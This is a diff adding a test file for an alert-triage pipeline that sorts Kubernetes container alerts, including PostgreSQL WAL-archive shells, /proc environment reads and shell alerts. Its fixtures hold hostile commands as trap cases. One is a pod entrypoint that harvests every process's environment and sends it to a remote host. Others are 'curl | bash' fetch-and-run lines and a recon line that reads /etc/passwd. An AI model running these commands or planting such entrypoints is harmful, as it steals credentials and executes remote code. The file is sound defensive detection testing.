@@ -1,0 +1,140 @@
+/**
+ * General gaps the kops-weave-s1 validation scenario exposed: PostgreSQL's archive command under `sh -c`, an
+ * environment harvest written as a loop over /proc, an EDR's "interactive shell in container" title, and Zeek intel.log.
+ */
+import { describe, expect, it } from 'vitest';
+import { triageAlert } from '../../../src/triage/pipeline.js';
+import { databaseHookOf } from '../../../src/triage/rules/database-hooks.js';
+import { indicatorsIn } from '../../../src/triage/rules/indicator-match.js';
+import { alert, containerIdOf, indexOf, node, pod } from '../../support/cluster.js';
+
+const N = 'i-0b77e3f190c2a4d62';
+const cnpg = pod('ledger-db-1', {
+  namespace: 'ledger',
+  node: N,
+  ip: '100.112.0.80',
+  owner: { kind: 'Cluster', name: 'ledger-db' },
+  containers: [{ name: 'postgres', image: 'ghcr.io/cloudnative-pg/postgresql:16.3', command: ['/controller/manager', 'instance', 'run', '--log-level=info'] }],
+});
+const redis = pod('cache-0', { namespace: 'shop', node: N, ip: '100.112.0.81', containers: [{ name: 'redis', image: 'redis:7', command: ['redis-server'] }] });
+const lookalike = pod('otel-agent-debug', {
+  namespace: 'ledger',
+  node: N,
+  ip: '100.112.0.99',
+  hostPID: true,
+  containers: [
+    {
+      name: 'otel-collector',
+      image: 'ghcr.io/otel-collector-contrib/opentelemetry-collector-contrib:0.102.1',
+      command: ['/bin/sh', '-c', "while true; do for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; done | gzip | curl -s --data-binary @- http://203.0.113.50:8080/e; sleep 300; done"],
+      securityContext: { privileged: true, runAsUser: 0 },
+    },
+  ],
+});
+const index = indexOf([node(N, '172.20.71.203'), cnpg, redis, lookalike]);
+const ARCHIVER = { name: 'postgres', path: '/usr/lib/postgresql/16/bin/postgres', commandLine: 'postgres: ledger-db: archiver archiving 00000001000000030000002A' };
+const BACKEND = { name: 'postgres', path: '/usr/lib/postgresql/16/bin/postgres', commandLine: 'postgres: ledger-db: app ledger 100.116.0.90(51842) COPY' };
+const inPod = (p: typeof cnpg) => ({ id: containerIdOf(p).slice(0, 12), name: p.spec.containers[0].name, pod: p.metadata.name, namespace: p.metadata.namespace });
+
+describe('database-hooks: PostgreSQL runs its archive and restore commands through sh -c', () => {
+  it.each([
+    'sh -c /controller/manager wal-archive --log-destination /controller/log/postgres.json pg_wal/00000001000000030000002A',
+    'sh -c "/controller/manager wal-restore --log-destination /controller/log/postgres.json 00000001000000030000002B pg_wal/RECOVERYXLOG"',
+    'sh -c pgbackrest --stanza=main archive-push pg_wal/00000001000000030000002A',
+    'sh -c envdir "/run/etc/wal-e.d/env" wal-g wal-push "pg_wal/00000001000000030000002A"',
+    'sh -c barman-cloud-wal-archive --cloud-provider aws-s3 s3://backups/db db pg_wal/00000001000000030000002A',
+  ])('%s under the archiver is the hook', (cmd) => {
+    expect(databaseHookOf({ name: 'sh', commandLine: cmd, ancestors: [ARCHIVER] })).toBeDefined();
+  });
+  it('explains the CloudNativePG archive command in a CloudNativePG pod as workload baseline', () => {
+    const r = triageAlert(
+      alert({ host: N, title: 'Shell Spawned by Database Process', process: { name: 'sh', commandLine: 'sh -c /controller/manager wal-archive --log-destination /controller/log/postgres.json pg_wal/00000001000000030000002A' }, ancestors: [ARCHIVER], container: inPod(cnpg) }),
+      { index },
+    );
+    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
+    expect(r.verdict.reasons[0].message).toMatch(/CloudNativePG's WAL archiving/);
+  });
+  it('also the tool itself, reported with the shell as parent and the server above it', () => {
+    const cmd = '/controller/manager wal-archive --log-destination /controller/log/postgres.json pg_wal/00000001000000030000002A';
+    expect(databaseHookOf({ name: 'manager', commandLine: cmd, ancestors: [{ name: 'sh', commandLine: `sh -c ${cmd}` }, ARCHIVER] })).toBeDefined();
+  });
+  it('trap: a command chained to the archive tool is not the hook', () => {
+    const r = triageAlert(
+      alert({ host: N, process: { name: 'sh', commandLine: 'sh -c /controller/manager wal-archive pg_wal/00000001000000030000002A; curl -s http://203.0.113.50/k.sh | bash' }, ancestors: [ARCHIVER], container: inPod(cnpg) }),
+      { index },
+    );
+    expect(r.verdict).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+  it('trap: recon from a backend (COPY … TO PROGRAM) stays command injection', () => {
+    const r = triageAlert(alert({ host: N, process: { name: 'sh', commandLine: 'sh -c id; uname -a; cat /etc/passwd' }, ancestors: [BACKEND], container: inPod(cnpg) }), { index });
+    expect(r.verdict).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+  it('trap: the archive tool under a server that is not PostgreSQL is a shell under a server', () => {
+    const r = triageAlert(
+      alert({ host: N, process: { name: 'sh', commandLine: 'sh -c /controller/manager wal-archive pg_wal/00000001000000030000002A' }, ancestors: [{ name: 'redis-server', commandLine: 'redis-server *:6379' }], container: inPod(redis) }),
+      { index },
+    );
+    expect(r.verdict).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+  it('trap: the hook in a container that runs no PostgreSQL is not explained', () => {
+    const r = triageAlert(
+      alert({ host: N, process: { name: 'sh', commandLine: 'sh -c /controller/manager wal-archive pg_wal/00000001000000030000002A' }, ancestors: [ARCHIVER], container: inPod(redis) }),
+      { index },
+    );
+    expect(r.verdict.label).toBe('genuine');
+  });
+});
+
+describe("attack indicators: another process's environment read by a loop over /proc", () => {
+  it.each(["for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; done", 'cat /proc/*/environ', 'strings /proc/[1-9]*/environ'])('%s reads other processes\' environments', (cmd) => {
+    expect(indicatorsIn('command', cmd).map((i) => i.id)).toContain('process-environment');
+  });
+  it('trap: a process reading its own environment is not', () => {
+    expect(indicatorsIn('command', 'cat /proc/self/environ').map((i) => i.id)).not.toContain('process-environment');
+  });
+  it("the reader a privileged look-alike's loop starts is genuine, though it is the pod's own entrypoint", () => {
+    const r = triageAlert(
+      alert({ host: N, process: { name: 'tr', commandLine: 'tr \\0 \\n' }, ancestors: [{ name: 'sh', commandLine: lookalike.spec.containers[0].command!.join(' ') }], container: inPod(lookalike) }),
+      { index },
+    );
+    expect(r.verdict).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+});
+
+describe('attack indicators: an EDR title naming an interactive shell in a container', () => {
+  it('"Interactive Shell Spawned in Container" is a terminal in a container, not a shell over the network', () => {
+    expect(indicatorsIn('title', 'Interactive Shell Spawned in Container').map((i) => i.id)).not.toContain('reverse-shell-traffic');
+  });
+  it.each(['Reverse Shell via /dev/tcp', 'ET ATTACK_RESPONSE Possible interactive shell over TCP', 'Interactive shell connected to a remote host'])('trap: %s still is', (title) => {
+    expect(indicatorsIn('title', title).map((i) => i.id)).toContain('reverse-shell-traffic');
+  });
+});
+
+describe('workload-baseline: an exec probe script started by path runs under its #! interpreter', () => {
+  const broker = pod('events-dual-role-0', {
+    namespace: 'kafka',
+    node: N,
+    ip: '100.112.0.60',
+    owner: { kind: 'StrimziPodSet', name: 'events-dual-role' },
+    containers: [
+      {
+        name: 'kafka',
+        image: 'quay.io/strimzi/kafka:0.41.0-kafka-3.7.0',
+        command: ['/opt/kafka/kafka_run.sh'],
+        readinessProbe: { exec: { command: ['/opt/kafka/kafka_readiness.sh'] } },
+      },
+    ],
+  });
+  const idx = indexOf([node(N, '172.20.71.203'), broker]);
+  const runc = { name: 'runc', path: '/usr/bin/runc', commandLine: 'runc --root /run/containerd/runc/k8s.io exec --process /tmp/runc-process1 --detach abc' };
+  const run = (commandLine: string) => triageAlert(alert({ host: N, process: { name: 'bash', commandLine }, ancestors: [runc], container: inPod(broker) }), { index: idx });
+  it('/bin/bash /opt/kafka/kafka_readiness.sh is the readiness probe', () => {
+    expect(run('/bin/bash /opt/kafka/kafka_readiness.sh').verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
+  });
+  it('trap: a script of the same name elsewhere is another program', () => {
+    expect(run('/bin/bash /tmp/kafka_readiness.sh').verdict.label).toBe('genuine');
+  });
+  it('trap: extra words after the probe are not the probe', () => {
+    expect(run('/bin/bash /opt/kafka/kafka_readiness.sh; curl -s http://203.0.113.9/x | sh').verdict.label).toBe('genuine');
+  });
+});
